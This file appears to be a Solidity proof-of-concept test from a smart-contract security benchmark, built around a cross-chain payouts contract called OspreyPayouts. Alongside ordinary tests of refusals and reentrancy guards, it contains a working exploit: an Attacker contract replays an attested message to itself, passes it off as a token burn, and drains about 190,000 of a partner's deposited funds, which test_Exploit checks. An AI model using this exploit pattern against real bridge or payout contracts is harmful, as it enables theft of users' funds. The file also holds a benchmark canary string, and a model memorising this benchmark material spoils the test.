// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./OspreyPayouts.sol";

// assay-canary-c6d8c651-d333-46b6-b020-6ffa26ce22a6

interface Vm {
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IDollar {
    address private owner = msg.sender;
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    /// Hands the minting over.
    function appoint(address minter_) external {
        require(msg.sender == owner, "owner only");
        minter = minter_;
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

interface IHandler {
    function handle(uint32 source, bytes32 sender, bytes calldata body) external returns (bool);
}

contract Transport is ITransport {
    address internal attester;
    mapping(bytes32 => bool) internal received;

    constructor(address attester_) {
        attester = attester_;
    }

    function receiveMessage(Message calldata m, bytes calldata attestation) external returns (bool) {
        bytes32 digest = keccak256(abi.encode(m));
        (uint8 v, bytes32 r, bytes32 s) = abi.decode(attestation, (uint8, bytes32, bytes32));
        require(ecrecover(digest, v, r, s) == attester, "not attested");
        require(!received[digest], "received");
        require(m.bringer == address(0) || m.bringer == msg.sender, "bringer");
        received[digest] = true;
        return IHandler(m.recipient).handle(m.source, m.sender, m.body);
    }
}

contract Minter is IHandler {
    Transport internal transport;
    Token internal dollar;
    bytes32 internal burner;

    constructor(Transport transport_, Token dollar_, bytes32 burner_) {
        transport = transport_;
        dollar = dollar_;
        burner = burner_;
    }

    function handle(uint32, bytes32 sender, bytes calldata body) external returns (bool) {
        require(msg.sender == address(transport) && sender == burner, "not a burn");
        Burn memory burn = abi.decode(body, (Burn));
        dollar.mint(burn.mintTo, burn.amount);
        return true;
    }
}

/// Receives a message and declines it.
contract Declining is IHandler {
    function handle(uint32, bytes32, bytes calldata) external pure returns (bool) {
        return false;
    }
}

/// A dollar that answers "false" where others revert.
contract Polite is IDollar {
    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }
}

/// A dollar that calls once when it is moved, and hands on a refusal.
contract Calling is IDollar {
    address internal callee;
    bytes internal data;

    function prepare(address callee_, bytes calldata data_) external {
        callee = callee_;
        data = data_;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external returns (bool) {
        bytes memory call_ = data;
        if (call_.length == 0) return true;
        delete data;
        (bool ok, bytes memory out) = callee.call(call_);
        if (!ok) {
            assembly {
                revert(add(out, 32), mload(out))
            }
        }
        return true;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

/// A dollar of which everybody has one less once it has received a message.
contract Sinking is IDollar, IHandler {
    uint256 internal held = 1;

    function handle(uint32, bytes32, bytes calldata) external returns (bool) {
        held = 0;
        return true;
    }

    function balanceOf(address) external view returns (uint256) {
        return held;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant KEY = 0xA77E57;
    uint32 internal constant SOURCE = 6;
    bytes32 internal constant BURNER = "issuer's burner";
    bytes32 internal constant TOKEN = "remote dollar";
    address internal constant PARTNER = address(0x9A47);
    address internal constant PAYEE = address(0x9A1E);
    uint256 internal constant KEPT = 190_000e6;

    Token internal dollar;
    Transport internal transport;
    Minter internal minter;
    OspreyPayouts internal payouts;
    Attacker internal thief;
    Message internal sent;
    bytes internal attested;

    function setUp() public {
        dollar = new Token();
        transport = new Transport(vm.addr(KEY));
        minter = new Minter(transport, dollar, BURNER);
        payouts = new OspreyPayouts(dollar, transport);
        payouts.setSource(SOURCE, TOKEN);
        dollar.mint(PARTNER, KEPT);
        dollar.appoint(address(minter));
        vm.prank(PARTNER);
        dollar.approve(address(payouts), KEPT);
        vm.prank(PARTNER);
        payouts.fillTank(KEPT);

        // the attacker sends an ordinary message to a contract of its own; the attesters sign every message
        thief = new Attacker(payouts);
        uint256 amount = 190_090e6;
        sent = Message(
            SOURCE,
            77,
            bytes32(uint256(uint160(address(thief)))),
            address(thief),
            address(payouts),
            abi.encode(Burn(TOKEN, amount, address(payouts), address(thief), 0))
        );
        attested = _attest(sent);
    }

    function _attest(Message memory m) internal returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, keccak256(abi.encode(m)));
        return abi.encode(v, r, s);
    }

    function test_Regular() public {
        Message memory m = Message(
            SOURCE,
            1,
            BURNER,
            address(minter),
            address(payouts),
            abi.encode(Burn(TOKEN, 10_000e6, address(payouts), PAYEE, 1e6))
        );
        bytes memory a = _attest(m);
        payouts.complete(m, a);
        require(dollar.balanceOf(PAYEE) == 9_994e6 && dollar.balanceOf(address(this)) == 1e6, "paid");
        (bool ok,) = address(payouts).call(abi.encodeCall(OspreyPayouts.complete, (m, a)));
        require(!ok, "twice");

        m.nonce = 2;
        vm.prank(PARTNER);
        payouts.advance(m);
        require(dollar.balanceOf(PAYEE) == 2 * 9_994e6, "advanced");
        (ok,) = address(payouts).call(abi.encodeCall(OspreyPayouts.complete, (m, a)));
        require(!ok, "attestation of another message");
        a = _attest(m);
        payouts.complete(m, a);
        require(payouts.tank(PARTNER) == KEPT, "given back");

        payouts.collectFees(address(this));
        require(dollar.balanceOf(address(this)) == 12e6, "fees");
        vm.prank(PARTNER);
        payouts.drawTank(KEPT);
        require(dollar.balanceOf(address(payouts)) == 0, "books");
    }

    function _burn(Burn memory burn) internal view returns (Message memory) {
        return Message(SOURCE, 1, BURNER, address(minter), address(payouts), abi.encode(burn));
    }

    function test_RefusesStrangers() public {
        vm.prank(PAYEE);
        vm.expectRevert(OspreyPayouts.NotOperator.selector);
        payouts.setSource(SOURCE, "another dollar");
        vm.prank(PAYEE);
        vm.expectRevert(OspreyPayouts.NotOperator.selector);
        payouts.collectFees(PAYEE);
    }

    function test_RefusesToAdvanceTwice() public {
        Message memory m = _burn(Burn(TOKEN, 10_000e6, address(payouts), PAYEE, 1e6));
        vm.prank(PARTNER);
        payouts.advance(m);
        vm.prank(PARTNER);
        vm.expectRevert(abi.encodeWithSelector(OspreyPayouts.AdvancedAlready.selector, PARTNER));
        payouts.advance(m);

        m.nonce = 2;
        payouts.complete(m, _attest(m));
        vm.prank(PARTNER);
        vm.expectRevert(OspreyPayouts.CompletedAlready.selector);
        payouts.advance(m);
    }

    function test_RefusesMessagesThatAreNotForIt() public {
        Message memory m = _burn(Burn(TOKEN, 10_000e6, address(payouts), PAYEE, 1e6));
        m.bringer = address(0);
        _refused(m, abi.encodeWithSelector(OspreyPayouts.NotToBeBroughtHere.selector, address(0)));
        m.bringer = address(payouts);
        m.source = 7;
        _refused(m, abi.encodeWithSelector(OspreyPayouts.UnknownSource.selector, 7));

        bytes memory other = abi.encodeWithSelector(OspreyPayouts.OtherBurn.selector);
        _refused(_burn(Burn("another dollar", 10_000e6, address(payouts), PAYEE, 1e6)), other);
        _refused(_burn(Burn(TOKEN, 10_000e6, PAYEE, PAYEE, 1e6)), other);

        m = _burn(Burn(TOKEN, 10_000e6, address(payouts), PAYEE, 1e6));
        m.recipient = address(new Declining());
        _refused(m, abi.encodeWithSelector(OspreyPayouts.NotAccepted.selector));
    }

    function _refused(Message memory m, bytes memory reason) internal {
        bytes memory a = _attest(m);
        vm.expectRevert(reason);
        payouts.complete(m, a);
    }

    function test_RefusesWhatTheDollarRefuses() public {
        OspreyPayouts other = new OspreyPayouts(new Polite(), transport);
        vm.expectRevert(OspreyPayouts.TransferFailed.selector);
        other.fillTank(0);
        vm.expectRevert(OspreyPayouts.TransferFailed.selector);
        other.drawTank(0);
    }

    function test_RefusesAReceiptThatCostsDollars() public {
        Sinking sinking = new Sinking();
        OspreyPayouts other = new OspreyPayouts(sinking, transport);
        other.setSource(SOURCE, TOKEN);
        Message memory m = Message(
            SOURCE, 1, BURNER, address(sinking), address(other), abi.encode(Burn(TOKEN, 0, address(other), PAYEE, 0))
        );
        bytes memory a = _attest(m);
        vm.expectRevert(OspreyPayouts.Shortfall.selector);
        other.complete(m, a);
    }

    function test_RefusesCallsWhileDollarsMove() public {
        Calling calling = new Calling();
        OspreyPayouts other = new OspreyPayouts(calling, transport);
        bytes[5] memory calls = [
            abi.encodeCall(OspreyPayouts.collectFees, (PAYEE)),
            abi.encodeCall(OspreyPayouts.fillTank, (0)),
            abi.encodeCall(OspreyPayouts.drawTank, (0)),
            abi.encodeCall(OspreyPayouts.advance, (sent)),
            abi.encodeCall(OspreyPayouts.complete, (sent, attested))
        ];
        for (uint256 i = 0; i < calls.length; i++) {
            calling.prepare(address(other), calls[i]);
            vm.expectRevert(OspreyPayouts.Occupied.selector);
            other.drawTank(0);
        }
    }

    function exploit() public {
        thief.run(sent, attested);
    }

    function test_Exploit() public {
        uint256 before = partnerFunds();
        exploit();
        require(partnerFunds() + 189_990e6 <= before, "nothing lost");
    }

    /// What the partner can still draw.
    function partnerFunds() public view returns (uint256) {
        uint256 tank = payouts.tank(PARTNER);
        uint256 held = dollar.balanceOf(address(payouts));
        return tank < held ? tank : held;
    }

    function target() public view returns (address) {
        return address(payouts);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Receives its own message and claims that it was a burn.
contract Attacker is IHandler {
    OspreyPayouts internal payouts;

    constructor(OspreyPayouts payouts_) {
        payouts = payouts_;
    }

    function handle(uint32, bytes32, bytes calldata) external pure returns (bool) {
        return true;
    }

    function run(Message calldata m, bytes calldata attestation) external {
        payouts.complete(m, attestation);
    }
}
